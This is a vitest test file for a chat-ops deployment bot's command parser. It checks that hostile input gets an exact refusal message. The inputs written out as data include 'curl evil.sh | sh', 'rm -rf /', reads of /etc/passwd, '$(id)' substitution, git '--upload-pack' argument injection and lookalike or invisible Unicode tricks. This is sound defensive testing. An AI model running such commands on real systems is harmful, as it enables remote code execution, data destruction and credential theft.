import { describe, expect, it } from "vitest";
import type { ParseContext } from "../../bot/command.ts";
import { parse } from "../../bot/grammar.ts";

/**
 * Hostile and malformed input: shell metacharacters, path tricks in refs, leading dashes,
 * lookalike and invisible characters, control characters, oversized and empty text. Each row
 * asserts the whole sentence the person reads. Non-ASCII characters are written as \u escapes so
 * the table shows exactly which character is under test.
 */

const NONE: ParseContext = {};
const BOUND: ParseContext = { app: "web", env: "production" };

const hostile: [text: string, context: ParseContext, error: string][] = [
  ["deploy web production; rm -rf /", NONE, "\"production;\" is not a valid environment name: \";\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["deploy web production v1;rm -rf /", NONE, "unexpected \"-rf\" at the end. Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web production && curl evil.sh | sh", NONE, "unexpected \"&&\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web production a && b", NONE, "unexpected \"&&\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web production | sh", NONE, "unexpected \"|\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web production v1 > /etc/passwd", NONE, "unexpected \">\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web production&gt;/tmp/x", NONE, "\"production>/tmp/x\" is not a valid environment name: \">\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["deploy web production &lt;(cat /etc/passwd)", NONE, "unexpected \"<(cat\" at the end (commands are not shell lines: send one command per message). Usage: `deploy <app> [to] <env> [<ref>]`, e.g. `deploy hello local`."],
  ["deploy web&amp;&amp;rm production", NONE, "\"web&&rm\" is not a valid app name: \"&\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["deploy web production ~root", NONE, "\"~root\" is not a valid ref: \"~\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production ../../etc/passwd", NONE, "\"../../etc/passwd\" is not a valid ref: it contains \"..\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production feature/../main", NONE, "\"feature/../main\" is not a valid ref: it contains \"..\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production feature//x", NONE, "\"feature//x\" is not a valid ref: it contains \"//\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production feature/.hidden", NONE, "\"feature/.hidden\" is not a valid ref: no part of it may start with \".\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production main.lock", NONE, "\"main.lock\" is not a valid ref: it can't end with \".lock\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production main.lock/x", NONE, "\"main.lock/x\" is not a valid ref: no part of it may end with \".lock\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production main/", NONE, "\"main/\" is not a valid ref: it can't end with \"/\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production main.", NONE, "\"main.\" is not a valid ref: it can't end with \".\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production --upload-pack=touch /tmp/x", NONE, "\"--upload-pack=touch\" is not a valid ref: it can't start with \"-\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production -v", NONE, "\"-v\" is not a valid ref: it can't start with \"-\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy -rf production", NONE, "\"-rf\" is not a valid app name: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["deploy web -production", NONE, "\"-production\" is not a valid environment name: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["restart web production -9", NONE, "\"-9\" is not a valid proc type: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["hosts -a", NONE, "\"-a\" is not a valid squad name: it can't start with \"-\". Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["approve -d-k3j9x2ab", NONE, "\"-d-k3j9x2ab\" is not a deployment id; ids look like `d-k3j9x2ab` (e.g. `approve d-k3j9x2ab`)."],
  ["deploy web production " + "a".repeat(201), NONE, "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u2026\" is not a valid ref: it is 201 characters long; the limit is 200."],
  ["deploy " + "a".repeat(64) + " production", NONE, "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u2026\" is not a valid app name: it is 64 characters long; the limit is 63."],
  ["d\u0435ploy web production", NONE, "\"d\u0435ploy\" contains \"\u0435\" (U+0435), which only looks like a Latin letter. Retype it in plain ASCII."],
  ["deploy w\u0435b production", NONE, "\"w\u0435b\" contains \"\u0435\" (U+0435), which only looks like a Latin letter. Retype it in plain ASCII."],
  ["deploy web pr\u043eduction", NONE, "\"pr\u043eduction\" contains \"\u043e\" (U+043E), which only looks like a Latin letter. Retype it in plain ASCII."],
  ["\uff44\uff45\uff50\uff4c\uff4f\uff59 web production", NONE, "\"\uff44\uff45\uff50\uff4c\uff4f\uff59\" contains \"\uff44\" (U+FF44), which only looks like a Latin letter. Retype it in plain ASCII."],
  ["deploy web production v\uff11", NONE, "\"v\uff11\" contains \"\uff11\" (U+FF11), which only looks like a digit. Retype it in plain ASCII."],
  ["deploy web production v1\uff1d", NONE, "\"v1\uff1d\" contains \"\uff1d\" (U+FF1D), which only looks like \"=\". Retype it in plain ASCII."],
  ["deploy web producti\u03bfn", NONE, "\"producti\u03bfn\" contains \"\u03bf\" (U+03BF), which only looks like a Latin letter. Retype it in plain ASCII."],
  ["de\u200bploy web production", NONE, "\"deploy\" contains an invisible character (U+200B) after \"de\". Retype it in plain ASCII."],
  ["\u200bdeploy web production", NONE, "\"deploy\" contains an invisible character (U+200B) at its start. Retype it in plain ASCII."],
  ["deploy web production\u200d", NONE, "\"production\" contains an invisible character (U+200D) after \"production\". Retype it in plain ASCII."],
  ["deploy \ufeff web production", NONE, "the command has an invisible character (U+FEFF) between words. Retype it in plain ASCII."],
  ["deploy web\u00ad production", NONE, "\"web\" contains an invisible character (U+00AD) after \"web\". Retype it in plain ASCII."],
  ["deploy web production\u202egnp.exe", NONE, "\"productiongnp.exe\" contains an invisible character (U+202E) after \"production\". Retype it in plain ASCII."],
  ["deploy web production\u0000", NONE, "\"production\" contains a control character (U+0000) after \"production\". Retype it in plain ASCII."],
  ["deploy web production \u001b[31mred", NONE, "\"[31mred\" contains a control character (U+001B) at its start. Retype it in plain ASCII."],
  ["deploy\u0007 web production", NONE, "\"deploy\" contains a control character (U+0007) after \"deploy\". Retype it in plain ASCII."],
  ["deploy we\u0301b production", NONE, "\"web\" contains a combining mark (U+0301) after \"we\". Retype it in plain ASCII."],
  ["deploy caf\u00e9 production", NONE, "\"caf\u00e9\" contains \"\u00e9\" (U+00E9), which is not plain ASCII. Commands use ASCII letters, digits and punctuation."],
  ["deploy web production \u{1f680}", NONE, "\"\u{1f680}\" contains \"\u{1f680}\" (U+1F680), which is not plain ASCII. Commands use ASCII letters, digits and punctuation."],
  ["deploy web production \ud800", NONE, "the command has a broken character (U+D800) between words. Retype it in plain ASCII."],
  ["d".repeat(10240), NONE, "command is too long (10240 characters; the limit is 2000)."],
  ["deploy web production " + "x ".repeat(1000), NONE, "command is too long (2022 characters; the limit is 2000)."],
  ["", NONE, "there is no command here. Type `help` for the list of commands."],
  ["   \n\t ", NONE, "there is no command here. Type `help` for the list of commands."],
  ["<@U123>", NONE, "there is no command after the mention. Type `help` for the list of commands."],
  ["<@U123|raptor>   ", NONE, "there is no command after the mention. Type `help` for the list of commands."],
  ["<@U123> <@U456>", NONE, "there is no command after the mention. Type `help` for the list of commands."],
  ["lock web production \u0000 nope", NONE, "the reason contains a control character (U+0000). Remove it and send again."],
  ["lock web production \u202e evil", NONE, "the reason contains an invisible character (U+202E). Remove it and send again."],
  ["reject d-k3j9x2ab \u200b", NONE, "the reason contains an invisible character (U+200B). Remove it and send again."],
  ["config set web production A=\"a\u0000b\"", NONE, "the value of A contains a control character (U+0000). Remove it and send again."],
  ["config set web production A=\"line\nbreak\"", NONE, "the value of A goes over a line break: a config value is one line. Write it on one line; each KEY=VALUE pair may have a line of its own."],
  ["config set web production $(id)=1", NONE, "\"$(id)\" is not a valid config key: keys use letters, digits and \"_\", and don't start with a digit."],
  ["config set web production A\u200b=1", NONE, "\"A\" contains an invisible character (U+200B) after \"A\". Retype it in plain ASCII."],
  ["config unset web production A;B", NONE, "\"A;B\" is not a valid config key: keys use letters, digits and \"_\", and don't start with a digit."],
  ["scale web production web=6;reboot", NONE, "\"web=6;reboot\": the count must be a whole number from 0 to 100."],
  ["scale web production web=1e3", NONE, "\"web=1e3\": the count must be a whole number from 0 to 100."],
  ["scale web production web=0x10", NONE, "\"web=0x10\": the count must be a whole number from 0 to 100."],
  ["scale web=\uff16", BOUND, "\"web=\uff16\" contains \"\uff16\" (U+FF16), which only looks like a digit. Retype it in plain ASCII."],
  ["logs web production web 1e9", NONE, "\"1e9\" is not a number of lines: logs shows 1 to 5000, e.g. `logs web production web 200`."],
  ["logs web production web -5", NONE, "\"-5\" is not a number of lines: logs shows 1 to 5000, e.g. `logs web production web 200`."],
  ["rollback web production v-1", NONE, "\"v-1\" is not a release: write v<N> or <N> (from 1), e.g. `rollback web production v41`."],
  ["rollback web production v1.5", NONE, "\"v1.5\" is not a release: write v<N> or <N> (from 1), e.g. `rollback web production v41`."],
  ["restart worker;reboot", BOUND, "\"worker;reboot\" is not a valid proc type: \";\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["deploy web production v1@{1}", NONE, "\"v1@{1}\" is not a valid ref: it contains \"@{\". Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy HEAD^", BOUND, "\"HEAD^\" is not a valid ref: \"^\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy a:b", BOUND, "\"a:b\" is not a valid ref: \":\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production x?", NONE, "\"x?\" is not a valid ref: \"?\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production x*", NONE, "\"x*\" is not a valid ref: \"*\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production x[1]", NONE, "\"x[1]\" is not a valid ref: \"[\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production x\\y", NONE, "\"x\\y\" is not a valid ref: \"\\\" is not allowed. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["deploy web production @", NONE, "\"@\" is not a valid ref: it is \"@\" alone. Refs follow git's rules: no spaces, \"..\", \"@{\", \"~ ^ : ? * [ \\\", control characters, no leading \"-\" or \".\", and no trailing \"/\", \".\" or \".lock\"."],
  ["status web production\nrm -rf /", NONE, "unexpected \"rm\" at the end. Usage: `status <app> [<env>]`, e.g. `status hello local`."],
  ["approve d-k3j9x2ab;drop", NONE, "\"d-k3j9x2ab;drop\" is not a deployment id; ids look like `d-k3j9x2ab` (e.g. `approve d-k3j9x2ab`)."],
  ["approve ../../etc", NONE, "\"../../etc\" is not a deployment id; ids look like `d-k3j9x2ab` (e.g. `approve d-k3j9x2ab`)."],
  ["cancel D-K3J9X2AB", NONE, "\"D-K3J9X2AB\" is not a deployment id: ids are lowercase. Did you mean `d-k3j9x2ab`?"],
  ["help $(id)", NONE, "no help for \"$(id)\". Type `help` for the list."],
  ["hosts blue|sh", NONE, "\"blue|sh\" is not a valid squad name: \"|\" is not allowed. Names use lowercase letters, digits, \"-\" and \"_\"."],
  ["!deploy web production", NONE, "unknown command \"!deploy\". Did you mean `deploy`? Type `help` for the list."],
  ["sudo deploy web production", NONE, "unknown command \"sudo\". Type `help` for the list."],
  ["deploy\\ web production", NONE, "unknown command \"deploy\\\". Did you mean `deploy`? Type `help` for the list."],
  ["'deploy' web production", NONE, "unknown command \"'deploy'\". Did you mean `deploy`? Type `help` for the list."],
];

describe("parse: hostile input is refused with an exact, useful error", () => {
  it("has at least 40 rows", () => {
    expect(hostile.length).toBeGreaterThanOrEqual(40);
  });

  it.each(hostile)("%j", (text, context, error) => {
    expect(parse(text, context)).toEqual({ ok: false, error });
  });
});

describe("parse: what hostile-looking input is still allowed", () => {
  // git accepts these as ref names; they reach git as argv after --end-of-options, never a shell.
  it.each(["v1|sh", "$(whoami)", "v1$(id)", "`id`", "${IFS}", "it's", "#123"])("keeps the git-valid ref %j as data", (r) => {
    expect(parse(`deploy web production ${r}`, NONE)).toEqual({ ok: true, command: { kind: "deploy", app: "web", env: "production", ref: r, force: false } });
  });

  it("keeps shell characters in config values as data", () => {
    expect(parse('config set web production CMD="a; rm -rf / && $(id) `x` > y"', NONE)).toEqual({
      ok: true,
      command: { kind: "config-set", app: "web", env: "production", vars: { CMD: "a; rm -rf / && $(id) `x` > y" } },
    });
  });

  it("allows emoji joined by U+200D in a reason", () => {
    expect(parse("lock web production on call: \u{1f469}\u200d\u{1f4bb}", NONE)).toEqual({
      ok: true,
      command: { kind: "lock", app: "web", env: "production", reason: "on call: \u{1f469}\u200d\u{1f4bb}" },
    });
  });

  it("decodes Slack entities once: &amp;lt; is a literal &lt;", () => {
    expect(parse("config set web production A=&amp;lt;", NONE)).toEqual({
      ok: true,
      command: { kind: "config-set", app: "web", env: "production", vars: { A: "&lt;" } },
    });
  });

  it("measures length before anything else, exactly at the limit", () => {
    const pad = (n: number) => `lock web production ${"x".repeat(n - 20)}`;
    expect(parse(pad(2000), NONE).ok).toBe(true);
    expect(parse(pad(2001), NONE)).toEqual({ ok: false, error: "command is too long (2001 characters; the limit is 2000)." });
  });

  it("counts characters, not UTF-16 units", () => {
    const text = `lock web production ${"\u{1f680}".repeat(1980)}`;
    expect(parse(text, NONE).ok).toBe(true);
  });
});
